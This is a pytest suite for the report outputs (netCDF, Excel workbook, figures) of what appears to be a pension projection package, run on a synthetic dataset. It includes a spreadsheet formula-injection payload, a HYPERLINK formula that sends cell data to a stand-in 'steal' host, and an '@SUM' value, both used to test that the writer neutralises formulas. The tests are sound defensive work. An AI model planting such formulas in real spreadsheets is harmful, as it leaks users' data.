"""Report outputs: netCDF, the Excel workbook and figures, on a small synthetic Dataset."""

from __future__ import annotations

import math
from pathlib import Path

import netCDF4
import numpy as np
import openpyxl
import pytest
import xarray as xr

from spfsim.cli import main as cli_main
from spfsim.errors import OutputExistsError
from spfsim.finance.measures import sustainability_variables
from spfsim.indicators import GENDER_GAPS, fiscal_space_variables
from spfsim.report.io import atomic_write, write_netcdf
from spfsim.report.plots import (
    ReportFigure,
    cohort_irr_figure,
    cost_rate_figure,
    population_pyramid,
    reserve_ratio_figure,
    reserve_ratio_methods_figure,
    write_figures,
)
from spfsim.report.workbook import build_workbook, neutralise_text, sheet_name_for, write_workbook

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
EVIL_NAME = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")'
YEARS = np.arange(2025, 2035)
AGES = np.arange(101)
SEXES = ["male", "female"]


def _v(dims, data, units, long_name):
    return (dims, np.asarray(data, dtype=float), {"units": units, "long_name": long_name})


@pytest.fixture
def ds() -> xr.Dataset:
    """Ten years, two schemes: a contributory pension (reserve runs out in 2031) and a
    non-contributory social pension named like a formula."""
    ny, na, ns = len(YEARS), len(AGES), 2
    t = np.arange(ny)[:, None, None]
    shape = np.exp(-AGES / 45.0)[None, :, None] * 20_000.0
    population = shape * np.array([1.0, 1.04])[None, None, :] * (1.01 ** t)
    deaths = population * (0.0005 + 0.00008 * np.exp(0.085 * AGES))[None, :, None].clip(max=1)
    migration = np.zeros_like(population)
    migration[:, 20:40, :] = 50.0
    working = ((AGES >= 20) & (AGES < 65))[None, :, None]
    labour_force = population * 0.7 * working
    employed = labour_force * 0.93

    old = (AGES >= 65)[None, :, None]
    contributors = np.zeros((ny, na, 2, ns))
    contributors[..., 0] = employed * 0.6
    beneficiaries = np.zeros((ny, na, 2, ns))
    beneficiaries[..., 0] = population * 0.5 * old
    beneficiaries[..., 1] = population * 0.3 * old

    earnings = 12_000.0 * 1.04 ** np.arange(ny)
    insured = contributors[..., 0].sum(axis=(1, 2)) * earnings
    benefits0 = 0.20 * insured * 1.08 ** np.arange(ny)
    benefits1 = beneficiaries[..., 1].sum(axis=(1, 2)) * 1_500.0
    admin0, admin1 = 0.02 * benefits0, 0.03 * benefits1
    contrib0 = 0.18 * insured
    rate = np.full(ny, 0.04)
    reserve0 = np.empty(ny)
    income0 = np.empty(ny)
    previous = 0.5 * benefits0[0]
    for k in range(ny):
        income0[k] = previous * rate[k]
        reserve0[k] = previous + contrib0[k] + income0[k] - benefits0[k] - admin0[k]
        previous = reserve0[k]
    gdp = 3.0 * employed.sum(axis=(1, 2)) * earnings

    ys = ("year", "scheme")
    money = "XOF (nominal) per year"
    insured_earnings = np.stack([insured, np.zeros(ny)], axis=-1)
    benefit = np.stack([benefits0, benefits1], axis=-1)
    admin = np.stack([admin0, admin1], axis=-1)
    reserve = np.stack([reserve0, np.zeros(ny)], axis=-1)
    cost = benefit + admin
    paygo = np.stack([cost[:, 0] / insured, np.full(ny, np.nan)], axis=-1)
    ratio = reserve / cost
    depleted = YEARS[np.flatnonzero(reserve0 < 0)]
    data = {
        "population": _v(("year", "age", "sex"), population, "persons", "population at 1 July"),
        "births": _v(("year", "sex"), np.full((ny, 2), 24_000.0) * [1.05, 1.0], "persons",
                     "live births"),
        "deaths": _v(("year", "age", "sex"), deaths, "persons", "deaths"),
        "net_migration": _v(("year", "age", "sex"), migration, "persons", "net migrants"),
        "life_expectancy": _v(("year", "sex"), 70 + 0.2 * np.arange(ny)[:, None] + [0, 4],
                              "years", "period life expectancy at birth"),
        "labour_force": _v(("year", "age", "sex"), labour_force, "persons", "labour force"),
        "employed": _v(("year", "age", "sex"), employed, "persons", "employed persons"),
        "gdp": _v(("year",), gdp, "XOF (nominal)", "gross domestic product"),
        "average_earnings": _v(("year",), earnings, money, "average annual earnings"),
        "price_index": _v(("year",), 1.02 ** np.arange(ny), "1", "consumer price index"),
        "wage_index": _v(("year",), 1.04 ** np.arange(ny), "1", "average earnings index"),
        "interest_rate": _v(("year",), rate, "fraction per year", "nominal return"),
        "contributors": _v(("year", "age", "sex", "scheme"), contributors, "persons",
                           "persons contributing during the year"),
        "beneficiaries": _v(("year", "age", "sex", "scheme"), beneficiaries, "persons",
                            "persons receiving a benefit"),
        "new_beneficiaries": _v(("year", "sex", "scheme"), np.full((ny, 2, ns), 900.0),
                                "persons", "benefits awarded during the year"),
        "average_new_benefit": _v(("year", "sex", "scheme"), np.full((ny, 2, ns), 2_400.0),
                                  money, "average annual amount of new awards"),
        "insured_earnings": _v(ys, insured_earnings, money, "insured earnings"),
        "contribution_income": _v(ys, np.stack([contrib0, np.zeros(ny)], axis=-1), money,
                                  "contribution income"),
        "state_transfer": _v(ys, np.stack([np.zeros(ny), cost[:, 1]], axis=-1), money,
                             "transfers from the state budget"),
        "investment_income": _v(ys, np.stack([income0, np.zeros(ny)], axis=-1), money,
                                "investment income of the reserve"),
        "benefit_expenditure": _v(ys, benefit, money, "benefit expenditure"),
        "admin_expenditure": _v(ys, admin, money, "administrative expenditure"),
        "reserve": _v(ys, reserve, "XOF (nominal)", "reserve at the end of the year"),
        "paygo_cost_rate": _v(ys, paygo, "fraction", "PAYG cost rate"),
        "reserve_ratio": _v(ys, ratio, "fraction", "reserve / expenditure"),
        "cost_to_gdp": _v(ys, cost / gdp[:, None], "fraction", "expenditure / GDP"),
        "depletion_year": _v(("scheme",), [float(depleted[0]) if depleted.size else np.nan,
                                           np.nan], "calendar year", "depletion year"),
    }
    coords = {
        "year": ("year", YEARS.astype("int64"), {"long_name": "calendar year"}),
        "age": ("age", AGES.astype("int64"), {"units": "years", "long_name": "age"}),
        "sex": ("sex", np.array(SEXES, dtype=object)),
        "scheme": ("scheme", np.array(["pension", "social_pension"], dtype=object)),
        "scheme_name": ("scheme", np.array(["Old-age pension", EVIL_NAME], dtype=object)),
        "scheme_type": ("scheme", np.array(["db_pension", "universal"], dtype=object)),
        "scheme_kind": ("scheme", np.array(["contributory", "non_contributory"], dtype=object)),
    }
    out = xr.Dataset(data, coords=coords)
    out.attrs = {
        "title": "spfsim projection: Testland",
        "model": "testland",
        "model_path": "models/testland/model.toml",
        "spfsim_version": "0.1.0",
        "input_hash": "sha256:" + "0" * 64,
        "engine": "cohort",
        "seed": "0",
        "created": "2025-01-01T00:00:00+00:00",
        "base_year": 2025,
        "end_year": 2034,
        "currency": "XOF",
        "price_basis": "nominal (current prices)",
    }
    return out


COHORTS = np.arange(1940, 2000)
COMPLETE = (COHORTS >= 1960) & (COHORTS < 1980)  # 20 of the 60 cohorts
ENVELOPE = 0.01
EQUITY_VARIABLES = ("cohort_irr", "money_worth_ratio", "net_transfer_pv", "cohort_complete")


@pytest.fixture
def full_ds(ds) -> xr.Dataset:
    """``ds`` with the sustainability measures (computed), the fiscal space with an
    envelope of 1 % of GDP (computed), gender gaps and cohort returns (synthetic, in the
    contract the equity module fills: (cohort, sex, scheme) and cohort_complete (cohort,
    scheme))."""
    out = ds.merge(sustainability_variables(ds))
    out = out.assign(fiscal_space_variables(ds["state_transfer"].values, ds["gdp"].values,
                                            np.full(len(YEARS), ENVELOPE), "XOF (nominal)"))
    t = np.arange(len(YEARS))[:, None]
    gaps = np.empty((len(YEARS), 2, len(GENDER_GAPS)))
    gaps[:, 0, :] = [0.3, 0.2, 0.1] - 0.001 * t
    gaps[:, 1, :] = [np.nan, 0.0, np.nan]
    out["gender_gap"] = (("year", "scheme", "gap"), gaps,
                         {"units": "fraction", "long_name": "gender gap (men - women) / men"})
    out = out.assign_coords(gap=("gap", np.array(GENDER_GAPS, dtype=object)))
    c = (COHORTS - 1940.0)[:, None]
    irr = np.full((len(COHORTS), 2, 2), np.nan)
    irr[:, :, 0] = 0.03 - 0.0001 * c + [0.0, 0.004]
    mwr = 1.0 + 5.0 * irr
    transfer = np.where(np.isfinite(irr), 1000.0 * (COHORTS - 1970.0)[:, None, None], np.nan)
    transfer[:, 1, 0] += 500.0
    dims = ("cohort", "sex", "scheme")
    out = out.assign_coords(cohort=("cohort", COHORTS.astype("int64"),
                                    {"long_name": "birth year"}))
    out["cohort_irr"] = (dims, irr, {"units": "fraction per year",
                                     "long_name": "internal rate of return of the cohort"})
    out["money_worth_ratio"] = (dims, mwr, {"units": "1", "long_name": "PV benefits / PV "
                                            "contributions at 3 % a year"})
    out["net_transfer_pv"] = (dims, transfer, {"units": "XOF (nominal)", "long_name":
                                               "PV benefits - PV contributions at birth"})
    out["cohort_complete"] = (("cohort", "scheme"), np.stack([COMPLETE, COMPLETE], axis=-1),
                              {"units": "1", "long_name": "whole life within the projection"})
    return out


def _table(ws, label: str) -> tuple[dict[str, int], dict[object, int]]:
    """The table whose header row holds ``label``: {header: column}, {first cell: row}."""
    for row in ws.iter_rows():
        if any(cell.value == label for cell in row):
            header = row[0].row
            columns = {cell.value: cell.column for cell in row if cell.value is not None}
            rows, r = {}, header + 2  # below the units row
            while ws.cell(row=r, column=1).value is not None:
                rows[ws.cell(row=r, column=1).value] = r
                r += 1
            return columns, rows
    raise AssertionError(f"no table with header {label!r} in sheet {ws.title}")


def _cells(ws) -> list[list[object]]:
    return [[c.value for c in r] for r in ws.iter_rows()]


def _find_row(ws, year: int) -> int:
    for (cell,) in ws.iter_rows(min_col=1, max_col=1):
        if cell.value == year:
            return cell.row
    raise AssertionError(f"year {year} not found in sheet {ws.title}")


def _header_col(ws, label: str) -> int:
    for row in ws.iter_rows(max_row=40):  # under the charts at the top of a sheet
        for cell in row:
            if cell.value == label:
                return cell.column
    raise AssertionError(f"header {label!r} not found in sheet {ws.title}")


# --------------------------------------------------------------------------- netCDF


def test_netcdf_round_trip(ds, tmp_path):
    path = write_netcdf(ds, tmp_path / "results.nc")
    assert path == tmp_path / "results.nc"
    with xr.open_dataset(path) as back:
        back = back.load()
    assert list(back["sex"].values) == SEXES
    assert list(back["scheme"].values) == ["pension", "social_pension"]
    assert back["scheme_name"].values[1] == EVIL_NAME
    assert list(back["scheme_kind"].values) == ["contributory", "non_contributory"]
    assert back.attrs == ds.attrs
    for name in ds.data_vars:
        np.testing.assert_array_equal(back[name].values, ds[name].values)
        assert back[name].attrs["units"] == ds[name].attrs["units"]
        assert back[name].attrs["long_name"] == ds[name].attrs["long_name"]
    assert np.isnan(back["paygo_cost_rate"].sel(scheme="social_pension")).all()
    with netCDF4.Dataset(path) as nc:  # variable-length strings, not char arrays
        assert nc.variables["sex"].dtype is str
        assert nc.variables["scheme"].dtype is str
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.nc"]


def test_netcdf_refuses_existing_file(ds, tmp_path):
    path = tmp_path / "results.nc"
    path.write_bytes(b"keep me")
    with pytest.raises(OutputExistsError, match=r"results\.nc"):
        write_netcdf(ds, path)
    assert path.read_bytes() == b"keep me"
    write_netcdf(ds, path, overwrite=True)
    with xr.open_dataset(path) as back:
        assert back.sizes["year"] == len(YEARS)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.nc"]


# --------------------------------------------------------------------------- atomic writes


def test_atomic_write_failure_leaves_nothing(tmp_path):
    seen = []

    def writer(tmp: Path) -> None:
        seen.append(tmp)
        assert tmp.parent == tmp_path
        assert tmp.name.startswith(".out.bin.tmp-")
        tmp.write_bytes(b"half of it")
        raise RuntimeError("disk on fire")

    with pytest.raises(RuntimeError, match="disk on fire"):
        atomic_write(tmp_path / "out.bin", writer)
    assert seen
    assert list(tmp_path.iterdir()) == []


def test_atomic_write_failure_keeps_existing_file(tmp_path):
    target = tmp_path / "out.bin"
    target.write_bytes(b"old")

    def writer(tmp: Path) -> None:
        tmp.write_bytes(b"new, but broken")
        raise OSError("no space left")

    with pytest.raises(OSError, match="no space left"):
        atomic_write(target, writer, overwrite=True)
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.bin"]


def test_atomic_write_refuses_before_calling_writer(tmp_path):
    target = tmp_path / "out.bin"
    target.write_bytes(b"old")
    calls = []
    with pytest.raises(OutputExistsError, match=r"out\.bin"):
        atomic_write(target, calls.append)
    assert calls == []
    assert target.read_bytes() == b"old"
    atomic_write(target, lambda tmp: tmp.write_bytes(b"new"), overwrite=True)
    assert target.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["out.bin"]


def test_atomic_write_writer_that_writes_nothing(tmp_path):
    with pytest.raises(RuntimeError, match="did not create"):
        atomic_write(tmp_path / "out.bin", lambda tmp: None)
    assert list(tmp_path.iterdir()) == []


def test_atomic_write_missing_folder(tmp_path):
    with pytest.raises(FileNotFoundError):
        atomic_write(tmp_path / "nope" / "out.bin", lambda tmp: tmp.write_bytes(b"x"))
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- workbook


ASSUMPTIONS = [
    ("contributions", "contribution_rate", 0.18, "fraction of insured earnings",
     "total contribution rate"),
    ("benefits", "pensionable_age", 60, "years", "normal retirement age"),
    ("benefits", "injected", "@SUM(A1:A9)", "", "-2+3 a description that starts with a sign"),
    ("economy", "missing", float("nan"), "", "a NaN value"),
]


def test_workbook_sheets_and_values(ds, tmp_path):
    path = write_workbook(ds, tmp_path / "report.xlsx", assumptions_table=ASSUMPTIONS)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "pension", "social_pension", "Population",
                             "Assumptions", "Metadata"]

    ws = wb["pension"]
    row = _find_row(ws, 2030)
    pension = ds.sel(scheme="pension", year=2030)
    expected = {
        "Contributors": float(pension["contributors"].sum()),
        "Beneficiaries": float(pension["beneficiaries"].sum()),
        "Insured earnings": float(pension["insured_earnings"]),
        "Contribution income": float(pension["contribution_income"]),
        "Investment income": float(pension["investment_income"]),
        "Benefit expenditure": float(pension["benefit_expenditure"]),
        "Admin expenditure": float(pension["admin_expenditure"]),
        "Reserve (end of year)": float(pension["reserve"]),
        "PAYG cost rate": float(pension["paygo_cost_rate"]),
        "Reserve ratio": float(pension["reserve_ratio"]),
        "Cost % of GDP": float(pension["cost_to_gdp"]),
    }
    for label, value in expected.items():
        cell = ws.cell(row=row, column=_header_col(ws, label))
        assert cell.value == pytest.approx(value, rel=1e-12), label
    # formats, a units row under the header saying the scale money is shown in, the header
    # rows printed on every page (not frozen: the charts above the table would be)
    col = _header_col(ws, "PAYG cost rate")
    assert ws.cell(row=row, column=col).number_format == "0.00%"
    money_col = _header_col(ws, "Benefit expenditure")
    money = ws.cell(row=row, column=money_col)
    header_row = ws.cell(row=1, column=1).row
    for r in ws.iter_rows(max_row=40):
        if r[0].value == "Year":
            header_row = r[0].row
    unit = ws.cell(row=header_row + 1, column=money_col).value
    scale = {"#,##0": "", "#,##0.0,": " thousand", "#,##0.0,,": " million",
             "#,##0.0,,,": " billion"}[money.number_format]
    assert unit == f"XOF{scale} (nominal) per year"
    assert ws.print_title_rows == f"${header_row}:${header_row + 1}"
    assert ws.column_dimensions["B"].width >= 10

    # charts: two in the contributory sheet, one in the non-contributory one
    assert len(ws._charts) >= 2
    assert len(wb["social_pension"]._charts) >= 1
    assert len(wb["Population"]._charts) >= 1

    # population sheet values
    pop = wb["Population"]
    prow = _find_row(pop, 2034)
    total = float(ds["population"].sel(year=2034).sum())
    assert pop.cell(row=prow, column=_header_col(pop, "Total population")).value == \
        pytest.approx(total)
    le = pop.cell(row=prow, column=_header_col(pop, "Life expectancy at birth, female")).value
    assert le == pytest.approx(float(ds["life_expectancy"].sel(year=2034, sex="female")))

    # metadata: every attr and every variable
    meta = wb["Metadata"]
    texts = {c.value for r in meta.iter_rows() for c in r if c.value is not None}
    for key in ds.attrs:
        assert key in texts
    for name in ds.data_vars:
        assert name in texts
    assert "sha256:" + "0" * 64 in texts

    # assumptions sheet
    assumptions = wb["Assumptions"]
    rows = [[c.value for c in r] for r in assumptions.iter_rows(min_row=4, max_col=5)]
    assert rows[0] == list(ASSUMPTIONS[0])
    assert rows[1][2] == 60
    assert rows[3][2] is None


def test_workbook_summary(ds, tmp_path):
    path = write_workbook(ds, tmp_path / "report.xlsx")
    ws = openpyxl.load_workbook(path)["Summary"]
    cells = [[c.value for c in r] for r in ws.iter_rows()]
    flat = [v for r in cells for v in r if v is not None]
    assert "spfsim projection: Testland" in flat
    assert "XOF" in flat
    assert "nominal (current prices)" in flat
    depletion = ds["depletion_year"].sel(scheme="pension").item()
    assert math.isfinite(depletion)  # the synthetic fund runs out within the horizon
    scheme_rows = {r[0]: r for r in cells if r and r[0] in ("pension", "social_pension")
                   and r[3] in ("contributory", "non-contributory")}
    assert scheme_rows["pension"][4] == int(depletion)
    assert scheme_rows["social_pension"][4] == "n/a (no fund)"
    # key figures: base year and end year (base + 25 is beyond this 10-year horizon)
    header = next(r for r in cells if r[:3] == ["Scheme id", "Name", "Indicator"])
    assert header[4:6] == ["2025", "2034"]
    payg = next(r for r in cells if r[0] == "pension" and r[2] == "PAYG cost rate")
    assert payg[4] == pytest.approx(float(ds["paygo_cost_rate"].sel(scheme="pension",
                                                                    year=2025)))
    gdp_row = next(r for r in cells if r[0] == "social_pension" and r[2] == "Cost % of GDP")
    assert gdp_row[5] == pytest.approx(float(ds["cost_to_gdp"].sel(scheme="social_pension",
                                                                   year=2034)))
    dependency = next(r for r in cells if r[0] and str(r[0]).startswith("Old-age dependency"))
    pop = ds["population"].sel(year=2025).sum("sex")
    expected = float(pop.sel(age=slice(65, None)).sum() / pop.sel(age=slice(15, 64)).sum())
    assert dependency[4] == pytest.approx(expected)


def test_workbook_depletion_text(ds, tmp_path):
    ds = ds.copy()
    # no depletion of the fund; a spurious year on the budget-financed scheme is not shown
    ds["depletion_year"] = ("scheme", [np.nan, 2029.0], ds["depletion_year"].attrs)
    ws = openpyxl.load_workbook(write_workbook(ds, tmp_path / "r.xlsx"))["Summary"]
    rows = {r[0]: r for r in ws.iter_rows(values_only=True)
            if r[3] in ("contributory", "non-contributory")}
    assert rows["pension"][4] == "not within horizon"
    assert rows["social_pension"][4] == "n/a (no fund)"


def test_workbook_formula_injection_neutralised(ds, tmp_path):
    path = write_workbook(ds, tmp_path / "report.xlsx", assumptions_table=ASSUMPTIONS)
    wb = openpyxl.load_workbook(path)
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), \
                        (ws.title, cell.coordinate, cell.value)
                    if "HYPERLINK" in cell.value:
                        found += 1
                        assert cell.value.startswith("'" + EVIL_NAME)
    assert found >= 2  # summary and the scheme sheet title at least
    values = [c.value for r in wb["Assumptions"].iter_rows() for c in r]
    assert "'@SUM(A1:A9)" in values


def test_workbook_lists_jumps(ds):
    """The Summary sheet lists the Dataset's jumps (spfsim.jumps), one a row, as text that
    cannot become a formula; 'No series jumps.' when there are none; nothing without the
    attribute."""
    first = "pension: PAYG cost rate fell by 34% in 2030 (10.8% to 7.1%); a cause."
    ds = ds.copy()
    ds.attrs["jumps"] = f"{first}\n{EVIL_NAME}"
    ws = build_workbook(ds)["Summary"]
    column = [c.value for c in ws["A"]]
    heading = column.index("Why a series jumps")
    assert column[heading + 2:heading + 4] == [first, "'" + EVIL_NAME]
    assert all(c.data_type != "f" for c in ws["A"])
    ds.attrs["jumps"] = ""
    column = [c.value for c in build_workbook(ds)["Summary"]["A"]]
    assert column[column.index("Why a series jumps") + 2] == "No series jumps."
    del ds.attrs["jumps"]
    assert "Why a series jumps" not in [c.value for c in build_workbook(ds)["Summary"]["A"]]


def test_neutralise_text():
    assert neutralise_text("=1+1") == "'=1+1"
    assert neutralise_text("+41 22") == "'+41 22"
    assert neutralise_text("-x") == "'-x"
    assert neutralise_text("@x") == "'@x"
    assert neutralise_text("\tx") == "'\tx"
    assert neutralise_text("\rx") == "'\rx"
    assert neutralise_text("plain - text") == "plain - text"
    assert neutralise_text("bad\x00char\x07s") == "badchars"


def test_workbook_nan_is_empty_cell(ds, tmp_path):
    path = write_workbook(ds, tmp_path / "report.xlsx")
    ws = openpyxl.load_workbook(path)["social_pension"]
    row = _find_row(ws, 2027)
    assert ws.cell(row=row, column=_header_col(ws, "PAYG cost rate")).value is None
    # the infinite reserve ratio of a scheme with no spending is empty too
    ds2 = ds.copy(deep=True)
    ds2["reserve_ratio"][0, 0] = np.inf
    ws2 = openpyxl.load_workbook(write_workbook(ds2, tmp_path / "r2.xlsx"))["pension"]
    assert ws2.cell(row=_find_row(ws2, 2025),
                    column=_header_col(ws2, "Reserve ratio")).value is None


def test_workbook_without_assumptions(ds, tmp_path):
    wb = openpyxl.load_workbook(write_workbook(ds, tmp_path / "report.xlsx"))
    text = " ".join(str(c.value) for r in wb["Assumptions"].iter_rows() for c in r
                    if c.value is not None)
    assert "No assumptions table was given" in text


def test_workbook_refuses_existing_file(ds, tmp_path):
    path = tmp_path / "report.xlsx"
    path.write_bytes(b"precious")
    with pytest.raises(OutputExistsError, match=r"report\.xlsx"):
        write_workbook(ds, path)
    assert path.read_bytes() == b"precious"
    write_workbook(ds, path, overwrite=True)
    assert openpyxl.load_workbook(path).sheetnames[0] == "Summary"
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


def test_workbook_bad_input_writes_nothing(ds, tmp_path):
    with pytest.raises(ValueError, match="row 0"):
        write_workbook(ds, tmp_path / "a.xlsx", assumptions_table=[("too", "short")])
    with pytest.raises(ValueError, match="scenario"):
        write_workbook(ds.expand_dims(scenario=["a", "b"]), tmp_path / "b.xlsx")
    with pytest.raises(ValueError, match="reserve"):
        write_workbook(ds.drop_vars("reserve"), tmp_path / "c.xlsx")
    with pytest.raises(ValueError, match=r"\.xlsx"):
        write_workbook(ds, tmp_path / "d.csv")
    assert list(tmp_path.iterdir()) == []


def test_sheet_names_sanitised():
    assert sheet_name_for("a/b:c*d?e[f]g\\h") == "a_b_c_d_e_f_g_h"
    assert len(sheet_name_for("x" * 80)) == 31
    assert sheet_name_for("summary") == "summary~2"
    assert sheet_name_for("dup", taken=["DUP"]) == "dup~2"
    assert sheet_name_for("''") == "scheme"
    long = "y" * 40
    first = sheet_name_for(long)
    assert sheet_name_for(long, taken=[first]) == "y" * 29 + "~2"


def test_workbook_long_and_odd_scheme_ids(ds, tmp_path):
    ids = ["a very long scheme identifier that exceeds excel", "odd/id:*?"]
    ds = ds.assign_coords(scheme=np.array(ids, dtype=object))
    wb = openpyxl.load_workbook(write_workbook(ds, tmp_path / "report.xlsx"))
    assert wb.sheetnames[1] == ids[0][:31]
    assert wb.sheetnames[2] == "odd_id___"


# --------------------------------------------------------------------------- figures


def test_figures_are_figures(ds):
    from matplotlib.figure import Figure

    for fig in (population_pyramid(ds, 2025), cost_rate_figure(ds), reserve_ratio_figure(ds)):
        assert isinstance(fig, Figure)
        assert fig.get_suptitle() == "spfsim projection: Testland"
    axes = cost_rate_figure(ds).axes
    assert len(axes) == 2
    assert "%" in axes[0].get_ylabel()
    assert "GDP" in axes[1].get_ylabel()
    with pytest.raises(ValueError, match="2040"):
        population_pyramid(ds, 2040)


def test_plots_do_not_touch_pyplot_state():
    import subprocess
    import sys

    code = ("import sys, matplotlib; "
            "before = dict.__getitem__(matplotlib.rcParams, 'backend'); "
            "import spfsim.report.plots; "
            "assert 'matplotlib.pyplot' not in sys.modules; "
            "assert dict.__getitem__(matplotlib.rcParams, 'backend') == before")
    subprocess.run([sys.executable, "-c", code], check=True)


def test_figures_not_registered_with_pyplot(ds):
    from matplotlib._pylab_helpers import Gcf

    before = Gcf.get_num_fig_managers()
    population_pyramid(ds, 2034)
    reserve_ratio_figure(ds)
    assert Gcf.get_num_fig_managers() == before


def test_write_figures(ds, tmp_path):
    paths = write_figures(ds, tmp_path / "figs")
    names = [p.name for p in paths]
    assert names == ["population_pyramid_2025.png", "population_pyramid_2034.png",
                     "cost_rates.png", "reserve_ratio.png", "reserve_ratio_methods.png",
                     "cohort_irr.png"]
    for p in paths:
        data = p.read_bytes()
        assert len(data) > 1000
        assert data.startswith(PNG_SIGNATURE)
    assert sorted(p.name for p in (tmp_path / "figs").iterdir()) == sorted(names)


def test_write_figures_refuses_any_existing(ds, tmp_path):
    (tmp_path / "cost_rates.png").write_bytes(b"mine")
    with pytest.raises(OutputExistsError, match=r"cost_rates\.png"):
        write_figures(ds, tmp_path)
    # checked before writing: nothing else appeared, the existing file is unchanged
    assert [p.name for p in tmp_path.iterdir()] == ["cost_rates.png"]
    assert (tmp_path / "cost_rates.png").read_bytes() == b"mine"
    paths = write_figures(ds, tmp_path, overwrite=True)
    assert (tmp_path / "cost_rates.png").read_bytes().startswith(PNG_SIGNATURE)
    assert len(paths) == 6


# --------------------------------------------------------------------------- sustainability


def test_workbook_sustainability_sheet(full_ds, tmp_path):
    wb = openpyxl.load_workbook(write_workbook(full_ds, tmp_path / "report.xlsx"))
    assert wb.sheetnames == ["Summary", "pension", "social_pension", "Sustainability",
                             "Equity", "Population", "Assumptions", "Metadata"]
    ws = wb["Sustainability"]
    pension = full_ds.sel(scheme="pension")
    # the scalar measures of the funded scheme, the balance labelled with its horizon
    scalars = {r[0]: r for r in _cells(ws) if r[0] is not None}
    horizon = int(full_ds["actuarial_balance"].attrs["horizon_years"])
    assert horizon == len(YEARS)  # the 75-year horizon is clipped to the projection
    for label, name in (("General average premium", "general_average_premium"),
                        ("Summarized income rate", "summarized_income_rate"),
                        ("Summarized cost rate", "summarized_cost_rate"),
                        (f"Actuarial balance ({horizon}-year horizon)", "actuarial_balance"),
                        ("Unfunded obligation (open group)", "unfunded_obligation")):
        assert scalars[label][1] == pytest.approx(float(pension[name]), rel=1e-12), label
    assert scalars["Depletion year"][1] == int(pension["depletion_year"])
    assert scalars["General average premium"][2] == "% of insured earnings"
    # the yearly table, reserve ratios under each financing method
    columns, rows = _table(ws, "Reserve ratio, general average premium")
    assert list(rows) == list(YEARS)
    row = rows[2030]
    at = pension.sel(year=2030)
    for label, name in (("Trust fund ratio", "trust_fund_ratio"),
                        ("Reserve ratio", "reserve_ratio"), ("PAYG cost rate", "paygo_cost_rate"),
                        ("Scaled premium", "scaled_premium"), ("Payable share", "payable_share")):
        assert ws.cell(row=row, column=columns[label]).value == pytest.approx(
            float(at[name]), rel=1e-12), label
    for method, label in (("scheme_rules", "scheme's own rates"), ("paygo", "PAYG cost rate"),
                          ("general_average_premium", "general average premium"),
                          ("scaled_premium", "scaled premium")):
        cell = ws.cell(row=row, column=columns[f"Reserve ratio, {label}"])
        assert cell.value == pytest.approx(
            float(at["reserve_ratio_by_method"].sel(financing_method=method)), rel=1e-12)
        assert cell.number_format == "0.00"
    # the GAP path ends the horizon with no reserve
    gap_col = columns["Reserve ratio, general average premium"]
    assert ws.cell(row=rows[2034], column=gap_col).value == pytest.approx(0.0, abs=1e-9)
    # fiscal space
    columns, rows = _table(ws, "Financing gap % of GDP")
    row = rows[2031]
    expected = float(full_ds["state_cost_to_gdp"].sel(year=2031))
    assert ws.cell(row=row, column=columns["State cost % of GDP"]).value == pytest.approx(
        expected)
    assert ws.cell(row=row, column=columns["Fiscal envelope % of GDP"]).value == ENVELOPE
    assert ws.cell(row=row, column=columns["Financing gap % of GDP"]).value == pytest.approx(
        expected - ENVELOPE)
    # a chart of the fiscal space and one of the reserve ratios (the only funded scheme);
    # nothing for the budget-financed scheme
    assert len(ws._charts) == 2
    assert sorted(len(chart.series) for chart in ws._charts) == [3, 4]
    # the charts draw the table's columns
    fiscal, methods = sorted(ws._charts, key=lambda chart: len(chart.series))
    letter = openpyxl.utils.get_column_letter
    assert f"${letter(columns['State cost % of GDP'])}$" in fiscal.series[0].val.numRef.f
    columns, _ = _table(ws, "Reserve ratio, general average premium")
    own = letter(columns["Reserve ratio, scheme's own rates"])
    assert f"${own}$" in methods.series[0].val.numRef.f
    text = " ".join(str(v) for r in _cells(ws) for v in r if v is not None)
    assert "social_pension" not in text


def test_workbook_sustainability_without_envelope(full_ds):
    ds = full_ds.copy()
    for name in ("fiscal_envelope", "financing_gap", "financing_gap_to_gdp"):
        ds[name] = ds[name] * np.nan
    ws = build_workbook(ds)["Sustainability"]
    text = " ".join(str(v) for r in _cells(ws) for v in r if v is not None)
    assert "No fiscal envelope in the model" in text
    columns, rows = _table(ws, "Fiscal envelope % of GDP")
    assert ws.cell(row=rows[2025], column=columns["Fiscal envelope % of GDP"]).value is None


# --------------------------------------------------------------------------- equity


def test_workbook_equity_sheet(full_ds, tmp_path):
    wb = openpyxl.load_workbook(write_workbook(full_ds, tmp_path / "report.xlsx"))
    ws = wb["Equity"]
    text = " ".join(str(v) for r in _cells(ws) for v in r if v is not None)
    assert "Complete cohorts only: 20 of 60 birth cohorts (born 1960-1979)" in text
    # one table, the contributory pension's, with the complete cohorts only
    columns, rows = _table(ws, "IRR, male")
    assert list(rows) == list(range(1960, 1980))
    pension = full_ds.sel(scheme="pension")
    for label, name, sex, cohort in (("IRR, male", "cohort_irr", "male", 1965),
                                     ("IRR, female", "cohort_irr", "female", 1979),
                                     ("Money's worth ratio, female", "money_worth_ratio",
                                      "female", 1960),
                                     ("Net transfer, male", "net_transfer_pv", "male", 1972),
                                     ("Net transfer, female", "net_transfer_pv", "female",
                                      1972)):
        cell = ws.cell(row=rows[cohort], column=columns[label])
        assert cell.value == pytest.approx(float(pension[name].sel(sex=sex, cohort=cohort)))
    assert ws.cell(row=rows[1965], column=columns["IRR, male"]).number_format == "0.00%"
    assert sum(1 for r in _cells(ws) if r[0] == "Birth cohort") == 1
    assert len(ws._charts) == 1  # IRR by cohort, men and women
    assert len(ws._charts[0].series) == 2
    # gender gaps at the key years (base and end year here); undefined gaps are left out
    header = next(r for r in _cells(ws) if r[:3] == ["Scheme id", "Name", "Indicator"])
    assert header[4:6] == ["2025", "2034"]
